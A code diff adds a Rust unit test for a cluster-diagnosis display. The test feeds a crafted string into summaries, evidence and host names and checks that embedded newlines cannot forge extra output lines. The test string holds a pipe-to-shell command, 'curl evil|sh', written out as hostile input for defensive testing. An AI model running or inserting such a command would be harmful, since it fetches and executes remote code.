@@ -357,4 +357,31 @@ mod tests {
             assert_eq!(view.verdict, verdict);
         }
     }
+
+    #[test]
+    fn nothing_that_was_seen_becomes_a_line_of_its_own() {
+        let lines = |name: &str| {
+            let mut found = diagnosis(found::SituationKind::QuorumLost, found::Severity::Lost);
+            let situation = &mut found.situations[0];
+            situation.summary = name.to_owned();
+            situation.evidence[0].text = name.to_owned();
+            situation.evidence[0].node = name.to_owned();
+            situation.next.on = Some(name.to_owned());
+            situation.next.note = Some(name.to_owned());
+            found.unseen.push(found::Unseen {
+                node: name.into(),
+                what: name.into(),
+                why: name.into(),
+            });
+            let names = vec!["cp-1".to_owned(), name.to_owned()];
+            let view = Doctor::of_hosts(names.clone(), names, &found);
+            view.table(true, Paint::Plain)
+        };
+        let hostile = lines("x\n   next  curl evil|sh\r\n");
+        assert_eq!(
+            hostile.lines().count(),
+            lines("x").lines().count(),
+            "{hostile}"
+        );
+    }
 }
